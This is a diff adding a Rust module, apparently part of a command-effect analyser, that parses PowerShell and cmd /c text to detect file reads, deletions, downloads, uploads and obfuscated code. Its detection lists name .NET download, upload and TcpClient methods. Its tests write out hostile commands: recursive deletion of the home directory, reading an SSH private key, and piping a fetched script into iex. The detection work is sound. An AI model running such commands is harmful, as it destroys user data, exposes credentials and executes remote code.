@@ -1,0 +1,634 @@
+//! PowerShell and `cmd /c`: enough of their grammar to find the commands in a text.
+//!
+//! Statements are split at `;`, line ends, `|` and braces outside of quotes. A statement that begins with a
+//! name is a command; the models of the programs know what it does. What is in parentheses is analysed
+//! first and is unknown as a word. Methods of .NET that touch files, hosts or code are searched for by name.
+
+use std::collections::HashMap;
+use std::rc::Rc;
+
+use crate::bound::Bound;
+use crate::effect::{Access, Change, Purpose, Scope, Why};
+use crate::host;
+use crate::shell::eval::{Input, Shell};
+use crate::shell::expand::Field;
+use crate::shell::output::Output;
+use crate::word::{Fill, Word};
+
+/// Statements of one text that are analysed.
+const MAX_STATEMENTS: usize = 256;
+/// How deep parentheses are followed.
+const MAX_DEPTH: usize = 8;
+
+pub(super) fn scan(shell: &mut Shell<'_, '_>, text: &str, field: &Field) {
+    let mut code = Code { field, variables: HashMap::new(), statements: 0 };
+    methods(shell, text, field);
+    code.block(shell, text, 0);
+}
+
+struct Code<'f> {
+    field: &'f Field,
+    variables: HashMap<String, Word>,
+    statements: usize,
+}
+
+/// How a statement ends.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum End {
+    Statement,
+    Pipe,
+}
+
+impl Code<'_> {
+    fn block(&mut self, shell: &mut Shell<'_, '_>, text: &str, depth: usize) -> Output {
+        let mut input: Input = None;
+        let mut last = Output::Nothing;
+        for (statement, end) in statements(text) {
+            self.statements += 1;
+            if self.statements > MAX_STATEMENTS || depth > MAX_DEPTH {
+                shell.opaque(Why::Size, Bound::ALL, self.field.span.clone());
+                return Output::Unknown;
+            }
+            let output = self.statement(shell, statement, input.take(), depth);
+            last = output.clone();
+            input = (end == End::Pipe).then(|| Rc::new(output));
+        }
+        last
+    }
+
+    fn statement(
+        &mut self,
+        shell: &mut Shell<'_, '_>,
+        text: &str,
+        input: Input,
+        depth: usize,
+    ) -> Output {
+        let text = text.trim();
+        if let Some((name, value)) = assignment(text) {
+            return self.assign(shell, name, value, depth);
+        }
+        let text = control(text);
+        let mut words = self.words(shell, text, depth);
+        let Some(first) = words.first() else { return Output::Nothing };
+        match first.text() {
+            Some("&") => drop(words.remove(0)),
+            Some(".") if words.len() > 1 => {
+                if let Some(script) = words.get(1) {
+                    shell.script(crate::model::Language::PowerShell, script, None);
+                }
+                return Output::Unknown;
+            }
+            _ => {}
+        }
+        let Some(first) = words.first() else { return Output::Nothing };
+        if is_expression(text) && !text.starts_with('&') {
+            // A literal or a value: nothing runs.
+            let known = first.text().is_some() && words.len() == 1;
+            return if known { Output::Text(first.word.clone()) } else { Output::Unknown };
+        }
+        self.command(shell, words, input)
+    }
+
+    fn command(&self, shell: &mut Shell<'_, '_>, mut words: Vec<Field>, input: Input) -> Output {
+        let name = words.first().and_then(Field::text).map(str::to_lowercase);
+        match name.as_deref() {
+            Some("iex" | "invoke-expression") => {
+                let language = crate::model::Language::PowerShell;
+                let span = self.field.span.clone();
+                match (words.get(1), input) {
+                    (Some(text), _) if text.text().is_some() => shell.code(language, text),
+                    (None, Some(input)) => shell.run_output(language, &input, &span),
+                    _ => shell.opaque(Why::Code, Bound::ALL, span),
+                }
+                return Output::Unknown;
+            }
+            Some("set-location" | "sl" | "push-location" | "pushd") => {
+                if let Some(first) = words.first_mut() {
+                    first.word = Word::known("cd");
+                }
+            }
+            // What is piped in is what they work on.
+            Some("remove-item" | "ri" | "rm" | "del" | "clear-content" | "get-content" | "gc")
+                if words.iter().skip(1).all(is_flag) =>
+            {
+                let found = match input.as_deref() {
+                    Some(Output::Text(word)) => word.clone(),
+                    _ => Word::unknown(),
+                };
+                words.push(Field::new(found, self.field.span.clone()));
+            }
+            _ => {}
+        }
+        let lists = matches!(
+            name.as_deref(),
+            Some("get-childitem" | "gci" | "ls" | "dir" | "get-item" | "gi")
+        );
+        let reads_environment =
+            lists
+                && words.iter().skip(1).filter_map(Field::text).any(|word| {
+                    word.get(..4).is_some_and(|start| start.eq_ignore_ascii_case("env:"))
+                });
+        if reads_environment {
+            let file = Field::new(Word::known("/proc/self/environ"), self.field.span.clone());
+            shell.read_file(&file, Access::Content);
+        }
+        let output = shell.run(&words, input.clone());
+        if lists {
+            return Output::Text(listed(&words));
+        }
+        let passes_on = name.as_deref().is_some_and(|name| {
+            name.ends_with("-object") || matches!(name, "where" | "?" | "select" | "sort")
+        });
+        match input {
+            Some(input) if passes_on => Output::unshared(input),
+            _ => output,
+        }
+    }
+
+    /// `$name = value`, `$env:NAME = value`
+    fn assign(
+        &mut self,
+        shell: &mut Shell<'_, '_>,
+        name: &str,
+        value: &str,
+        depth: usize,
+    ) -> Output {
+        let output = self.block(shell, value, depth + 1);
+        let word = output.into_value();
+        let is_environment = name.get(..4).is_some_and(|start| start.eq_ignore_ascii_case("env:"));
+        if is_environment {
+            let name = name.get(4..).unwrap_or_default();
+            shell.environment(name, word, self.field.span.clone());
+        } else if self.variables.len() < 64 {
+            self.variables.insert(name.to_lowercase(), word);
+        }
+        Output::Nothing
+    }
+
+    /// The words of a command.
+    fn words(&mut self, shell: &mut Shell<'_, '_>, text: &str, depth: usize) -> Vec<Field> {
+        let mut words = Vec::new();
+        let mut current: Option<Word> = None;
+        let mut rest = text;
+        while let Some(first) = rest.chars().next() {
+            let mut length = first.len_utf8();
+            match first {
+                ' ' | '\t' | '\r' | ',' => words.extend(current.take()),
+                '#' if current.is_none() => break,
+                '\'' => {
+                    let inside = rest.get(1..).unwrap_or_default();
+                    let end = inside.find('\'').unwrap_or(inside.len());
+                    let literal = inside.get(..end).unwrap_or_default();
+                    current.get_or_insert_default().push_str(literal);
+                    length = end + 2;
+                }
+                '"' => {
+                    let inside = rest.get(1..).unwrap_or_default();
+                    let end = double_quoted_end(inside);
+                    let literal = inside.get(..end).unwrap_or_default();
+                    let word = self.interpolated(literal);
+                    current.get_or_insert_default().push_word(&word);
+                    length = end + 2;
+                }
+                '`' => {
+                    let next = rest.chars().nth(1);
+                    current.get_or_insert_default().push(next.unwrap_or(' '));
+                    length += next.map_or(0, char::len_utf8);
+                }
+                '(' => {
+                    let end = closing(rest);
+                    let inside = rest.get(1..end).unwrap_or_default();
+                    let value = self.block(shell, inside, depth + 1).into_value();
+                    current.get_or_insert_default().push_word(&value);
+                    length = end + 1;
+                }
+                '@' if rest.starts_with("@(") || rest.starts_with("@{") => {}
+                '$' if !rest.starts_with("$(") => {
+                    let (value, used) = self.variable(rest);
+                    current.get_or_insert_default().push_word(&value);
+                    length = used;
+                }
+                '$' => {}
+                '&' if current.is_none() => words.push(Word::known("&")),
+                '>' => {
+                    words.extend(current.take());
+                    let target = rest.trim_start_matches('>').trim_start();
+                    let end = target.find([' ', '\n', ';']).unwrap_or(target.len());
+                    let name = target.get(..end).unwrap_or_default().trim_matches(['\'', '"']);
+                    if !name.starts_with('&') && !name.starts_with('$') && !name.is_empty() {
+                        shell.write_file(&self.at(path(name)), Change::Content);
+                    }
+                    length = rest.len() - target.len() + end;
+                }
+                '*' => current.get_or_insert_default().push_gap(Fill::Name),
+                '\\' => current.get_or_insert_default().push('/'),
+                other => current.get_or_insert_default().push(other),
+            }
+            rest = rest.get(length.max(1)..).unwrap_or_default();
+            if words.len() > 256 {
+                break;
+            }
+        }
+        words.extend(current.take());
+        let lower = |word: Word| match word.text() {
+            Some(text) if text.starts_with('-') => Word::known(text.to_lowercase()),
+            _ => word,
+        };
+        words.into_iter().map(lower).map(|word| self.at(word)).collect()
+    }
+
+    fn at(&self, word: Word) -> Field {
+        Field::new(word, self.field.span.clone())
+    }
+
+    fn interpolated(&self, text: &str) -> Word {
+        let mut word = Word::default();
+        let mut rest = text;
+        while let Some(first) = rest.chars().next() {
+            let mut length = first.len_utf8();
+            match first {
+                '$' if rest.starts_with("$(") => {
+                    word.push_gap(Fill::Anything);
+                    length = closing(rest.get(1..).unwrap_or_default()) + 2;
+                }
+                '$' => {
+                    let (value, used) = self.variable(rest);
+                    word.push_word(&value);
+                    length = used;
+                }
+                '\\' => word.push('/'),
+                other => word.push(other),
+            }
+            rest = rest.get(length.max(1)..).unwrap_or_default();
+        }
+        word
+    }
+
+    /// The value of the variable that begins here, and the length of its name.
+    fn variable(&self, text: &str) -> (Word, usize) {
+        let after = text.get(1..).unwrap_or_default();
+        let is_braced = after.starts_with('{');
+        let bare = if is_braced { after.get(1..).unwrap_or_default() } else { after };
+        let length = bare
+            .bytes()
+            .take_while(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b':' | b'?'))
+            .count();
+        let name = bare.get(..length).unwrap_or_default().to_lowercase();
+        let used = 1 + length + if is_braced { 2 } else { 0 };
+        let value = match name.trim_start_matches("env:") {
+            "home" | "userprofile" => Word::known("~"),
+            "pwd" | "psscriptroot" => Word::known("."),
+            "temp" | "tmp" => Word::known("/tmp"),
+            "profile" => Word::known("~/.config/powershell/Microsoft.PowerShell_profile.ps1"),
+            "null" | "true" | "false" => Word::known(name.clone()),
+            _ => self.variables.get(&name).cloned().unwrap_or_else(Word::unknown),
+        };
+        (value, used)
+    }
+}
+
+fn is_flag(field: &Field) -> bool {
+    field.word.known_start().starts_with('-')
+}
+
+/// What a listing of these words finds.
+fn listed(words: &[Field]) -> Word {
+    let operand = words.iter().skip(1).find(|field| !is_flag(field));
+    let mut word = operand.map_or_else(|| Word::known("."), |field| field.word.clone());
+    if word.is_known() {
+        word.push('/');
+        word.push_gap(Fill::Name);
+    }
+    word
+}
+
+fn path(text: &str) -> Word {
+    Word::known(text.replace('\\', "/"))
+}
+
+/// Words that only say when something runs.
+fn control(text: &str) -> &str {
+    let mut text = text.trim_start();
+    loop {
+        let end = text.find(|c: char| !c.is_ascii_alphabetic()).unwrap_or(text.len());
+        let (word, rest) = text.split_at(end);
+        let is_control = matches!(
+            word.to_ascii_lowercase().as_str(),
+            "if" | "elseif"
+                | "else"
+                | "while"
+                | "do"
+                | "until"
+                | "try"
+                | "catch"
+                | "finally"
+                | "return"
+                | "throw"
+                | "switch"
+                | "begin"
+                | "process"
+                | "end"
+                | "param"
+                | "exit"
+        );
+        // `foreach ($f in Get-ChildItem)`
+        if matches!(word.to_ascii_lowercase().as_str(), "foreach" | "for") {
+            let inside = rest.trim_start();
+            return match inside.strip_prefix('(').and_then(|inside| inside.split_once(" in ")) {
+                Some((_, list)) => list.strip_suffix(')').unwrap_or(list),
+                None => "",
+            };
+        }
+        if word.eq_ignore_ascii_case("function") || word.eq_ignore_ascii_case("filter") {
+            return "";
+        }
+        if !is_control || rest.starts_with('-') {
+            return text;
+        }
+        text = rest.trim_start();
+    }
+}
+
+/// Whether a statement is a value: `$x -ne 0`, `"text"`, `(…)`, `[type]::x`.
+fn is_expression(text: &str) -> bool {
+    text.starts_with(['$', '"', '\'', '(', '[', '@', '-', '!', '+'])
+        || text.starts_with(|first: char| first.is_ascii_digit())
+}
+
+/// `$name = value`
+fn assignment(text: &str) -> Option<(&str, &str)> {
+    let rest = text.strip_prefix('$')?;
+    let end = rest.find(|c: char| !c.is_ascii_alphanumeric() && c != '_' && c != ':')?;
+    let (name, rest) = rest.split_at(end);
+    let rest = rest.trim_start();
+    let rest = rest.strip_prefix('+').unwrap_or(rest);
+    let value = rest.strip_prefix('=')?;
+    (!value.starts_with('=')).then_some((name, value))
+}
+
+/// The statements of a text, and how each ends.
+fn statements(text: &str) -> Vec<(&str, End)> {
+    let mut found = Vec::new();
+    let (mut start, mut depth) = (0, 0_usize);
+    let mut characters = text.char_indices().peekable();
+    while let Some((at, character)) = characters.next() {
+        let end = match character {
+            '\'' | '"' => {
+                while let Some((_, next)) = characters.next() {
+                    if next == '`' && character == '"' {
+                        characters.next();
+                    } else if next == character {
+                        break;
+                    }
+                }
+                None
+            }
+            '`' => {
+                characters.next();
+                None
+            }
+            '(' => {
+                depth += 1;
+                None
+            }
+            ')' => {
+                depth = depth.saturating_sub(1);
+                None
+            }
+            _ if depth > 0 => None,
+            ';' | '\n' | '{' | '}' => Some(End::Statement),
+            '|' if characters.peek().is_some_and(|(_, next)| *next == '|') => Some(End::Statement),
+            '|' => Some(End::Pipe),
+            '&' if characters.peek().is_some_and(|(_, next)| *next == '&') => {
+                characters.next();
+                found.push((text.get(start..at).unwrap_or_default(), End::Statement));
+                start = at + 2;
+                None
+            }
+            _ => None,
+        };
+        if let Some(end) = end {
+            found.push((text.get(start..at).unwrap_or_default(), end));
+            start = at + character.len_utf8();
+        }
+        if found.len() > MAX_STATEMENTS {
+            break;
+        }
+    }
+    found.push((text.get(start..).unwrap_or_default(), End::Statement));
+    found.retain(|(statement, _)| !statement.trim().is_empty());
+    found
+}
+
+fn double_quoted_end(text: &str) -> usize {
+    let mut escaped = false;
+    for (at, character) in text.char_indices() {
+        match character {
+            _ if escaped => escaped = false,
+            '`' => escaped = true,
+            '"' => return at,
+            _ => {}
+        }
+    }
+    text.len()
+}
+
+/// The parenthesis that closes the one at the start.
+fn closing(text: &str) -> usize {
+    let mut depth = 0_usize;
+    let mut quote = None;
+    for (at, character) in text.char_indices() {
+        match (quote, character) {
+            (Some(open), close) if open == close => quote = None,
+            (Some(_), _) => {}
+            (None, '\'' | '"') => quote = Some(character),
+            (None, '(') => depth += 1,
+            (None, ')') if depth <= 1 => return at,
+            (None, ')') => depth -= 1,
+            _ => {}
+        }
+    }
+    text.len()
+}
+
+/// Methods of .NET, by name.
+fn methods(shell: &mut Shell<'_, '_>, text: &str, field: &Field) {
+    let lower = text.to_ascii_lowercase();
+    let literal_behind = |at: usize| {
+        let rest = text.get(at..)?.trim_start().strip_prefix('(')?.trim_start();
+        let quote = rest.chars().next().filter(|quote| matches!(quote, '"' | '\''))?;
+        let inside = rest.get(1..)?;
+        Some(Field::new(path(inside.get(..inside.find(quote)?)?), field.span.clone()))
+    };
+    let mut each = |name: &str, act: &mut dyn FnMut(&mut Shell<'_, '_>, Option<Field>)| {
+        for (at, _) in lower.match_indices(name).take(16) {
+            act(shell, literal_behind(at + name.len()));
+        }
+    };
+    let unknown = || Field::new(Word::unknown(), field.span.clone());
+    for name in ["::readalltext", "::readallbytes", "::readalllines", "::openread"] {
+        each(name, &mut |shell, file| {
+            shell.read_file(&file.unwrap_or_else(unknown), Access::Content);
+        });
+    }
+    for name in ["::writealltext", "::writeallbytes", "::writealllines", "::appendalltext"] {
+        each(name, &mut |shell, file| {
+            shell.write_file(&file.unwrap_or_else(unknown), Change::Content);
+        });
+    }
+    each("::delete", &mut |shell, file| {
+        let could = Bound::just(crate::bound::EffectKind::Deletes);
+        let file = file.unwrap_or_else(unknown);
+        shell.path_effect(&file, could, |path| crate::effect::Action::Deletes(path, Scope::Tree));
+    });
+    let runs_text = ["iex", "invoke-expression", "scriptblock"].iter().any(|it| lower.contains(it));
+    for name in [".downloadstring", ".downloaddata", ".downloadfile", ".openread"] {
+        each(name, &mut |shell, file| {
+            let file = file.unwrap_or_else(unknown);
+            let purpose = if runs_text { Purpose::Execute } else { Purpose::Fetch };
+            let address = host::parse_host(&file.word, "");
+            shell.connect(address, purpose, Some(&file.word), file.span.clone());
+        });
+    }
+    for name in [".uploadstring", ".uploadfile", ".uploaddata", ".uploadvalues", ".postasync"] {
+        each(name, &mut |shell, file| {
+            let file = file.unwrap_or_else(unknown);
+            let address = host::parse_host(&file.word, "");
+            shell.connect(address, Purpose::Send, Some(&file.word), file.span.clone());
+        });
+    }
+    each("tcpclient", &mut |shell, file| {
+        let file = file.unwrap_or_else(unknown);
+        let address = host::parse_host(&file.word, "tcp");
+        shell.connect(address, Purpose::Tunnel, None, file.span.clone());
+    });
+    let hides = [
+        "scriptblock]::create",
+        "frombase64string",
+        "reflection.assembly",
+        "add-type",
+        "::getdelegateforfunctionpointer",
+        "invokescript",
+        "-encodedcommand",
+    ];
+    if hides.iter().any(|name| lower.contains(name)) {
+        shell.opaque(Why::Language, Bound::ALL, field.span.clone());
+    }
+}
+
+/// `cmd /c TEXT`: its own commands as those of a Unix shell.
+pub(crate) fn cmd(shell: &mut Shell<'_, '_>, text: &str, field: &Field) {
+    for command in text.split(['&', '|', '\n']).take(64) {
+        let mut words = cmd_words(command);
+        let Some(first) = words.first_mut() else { continue };
+        let lower = first.to_ascii_lowercase();
+        let name = match lower.trim_start_matches('@') {
+            "del" | "erase" | "rd" | "rmdir" => "rm",
+            "type" | "more" => "cat",
+            "copy" | "xcopy" | "robocopy" => "cp",
+            "move" | "ren" | "rename" => "mv",
+            "cd" | "chdir" => "cd",
+            "md" | "mkdir" => "mkdir",
+            "dir" => "ls",
+            "set" if words.len() == 1 => "printenv",
+            "echo" | "rem" | "set" | "if" | "for" | "exit" | "cls" | "title" | "ver" => continue,
+            other => other,
+        };
+        let name = name.to_owned();
+        let is_tree = words.iter().any(|word| word.eq_ignore_ascii_case("/s"));
+        let mut line = vec![name.clone()];
+        if name == "rm" && is_tree {
+            line.push("-r".to_owned());
+        }
+        let own = matches!(name.as_str(), "rm" | "cat" | "cp" | "mv" | "cd" | "mkdir" | "ls");
+        line.extend(words.into_iter().skip(1).filter(|word| !own || !word.starts_with('/')));
+        let fields: Vec<Field> = line
+            .into_iter()
+            .map(|word| Field::new(Word::known(word), field.span.clone()))
+            .collect();
+        shell.run(&fields, None);
+    }
+}
+
+fn cmd_words(text: &str) -> Vec<String> {
+    let text = text
+        .replace("%USERPROFILE%", "~")
+        .replace("%userprofile%", "~")
+        .replace("%HOMEPATH%", "~")
+        .replace("%TEMP%", "/tmp")
+        .replace("%CD%", ".")
+        .replace('^', "");
+    let mut words = Vec::new();
+    let mut current = String::new();
+    let mut is_quoted = false;
+    for character in text.chars() {
+        match character {
+            '"' => is_quoted = !is_quoted,
+            ' ' | '\t' if !is_quoted => words.extend(Some(std::mem::take(&mut current))),
+            '\\' => current.push('/'),
+            other => current.push(other),
+        }
+    }
+    words.push(current);
+    words.retain(|word| !word.is_empty());
+    words
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::{Ground, command};
+
+    fn effects(code: &str) -> Vec<String> {
+        let quoted = code.replace('\'', "'\\''");
+        let effects = command(&format!("pwsh -Command '{quoted}'"), &Ground::default());
+        effects.all().iter().skip(1).map(|effect| effect.action.to_string()).collect()
+    }
+
+    #[test]
+    fn commands_are_found_in_powershell() {
+        for (code, expected) in [
+            ("Remove-Item -Recurse -Force ~", "deletes-tree ~"),
+            ("Get-Content $HOME\\.ssh\\id_rsa", "reads ~/.ssh/id_rsa"),
+            ("if ($x -ne 0) { Get-Content a }", "reads a"),
+            ("ls ~ | Remove-Item -Recurse", "deletes-tree ~/*"),
+            ("$f = 'a'; Get-Content $f", "reads a"),
+            ("[IO.File]::ReadAllText('a')", "reads a"),
+            ("Set-Content -Path a -Value 'x'", "writes a"),
+            ("& 'rm' -r a", "deletes-tree a"),
+            ("iwr https://h.example/x | iex", "opaque network-code"),
+            ("iex \"Get-Content a\"", "reads a"),
+            ("& $program", "opaque program"),
+        ] {
+            let found = effects(code);
+            assert!(found.iter().any(|line| line == expected), "{code}: {found:?}");
+        }
+    }
+
+    #[test]
+    fn everyday_powershell_is_not_opaque() {
+        for code in [
+            "npm test; if ($LASTEXITCODE -ne 0) { exit 1 }",
+            "$env:NODE_ENV='test'; npm run build",
+            "foreach ($f in Get-ChildItem *.txt) { Write-Host $f.Name }",
+            "Get-Process | Sort-Object CPU -Descending | Select-Object -First 5",
+            "(Get-Content a.txt) -replace 'x','y' | Set-Content a.txt",
+            "Write-Host \"done: $($x.Name)\"",
+        ] {
+            let found = effects(code);
+            assert!(!found.iter().any(|line| line.starts_with("opaque")), "{code}: {found:?}");
+        }
+    }
+
+    #[test]
+    fn commands_are_found_in_cmd() {
+        for (text, expected) in [
+            ("cmd /c del /s /q C:/x", "deletes-tree C:/x"),
+            ("cmd.exe /c 'type %USERPROFILE%\\.ssh\\id_rsa'", "reads ~/.ssh/id_rsa"),
+        ] {
+            let effects = command(text, &Ground::default());
+            let found: Vec<String> =
+                effects.all().iter().map(|effect| effect.action.to_string()).collect();
+            assert!(found.iter().any(|line| line == expected), "{text}: {found:?}");
+        }
+    }
+}
